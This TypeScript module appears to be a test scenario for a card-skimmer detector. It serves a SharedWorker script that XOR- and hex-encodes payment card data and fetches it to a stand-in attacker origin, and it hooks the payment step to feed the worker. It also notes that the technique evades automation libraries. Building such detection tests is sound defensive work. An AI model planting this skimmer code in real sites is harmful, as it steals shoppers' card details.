import { holds, js, skimmer } from '../behaviour.ts';
import { hex, query, xor } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'shared-worker',
  why: 'A shared worker sends it: automation libraries do not see those at all.',
  covers: ['sending: fetch', 'encoding: substitution'],
  base: 'direct',
  install: (site) => {
    site.serve(
      'shop/assets/sync.js',
      js`onconnect = function (e) { e.ports[0].onmessage = function (m) {
  var out = '';
  for (var i = 0; i < m.data.length; i++) out += ('0' + ((m.data.charCodeAt(i) ^ 'shared'.charCodeAt(i % 6)) & 255).toString(16)).slice(-2);
  fetch('${site.origins.evil}/sync?h=' + out, { mode: 'no-cors' });
}; };`,
    );
    site.append(js`window._s = new SharedWorker('/assets/sync.js');
${onPay(js`_s.port.postMessage(card());`)}`);
  },
  proof: holds((arrived) => query(arrived, 'h').map((text) => xor(hex(text), 'shared'))),
});
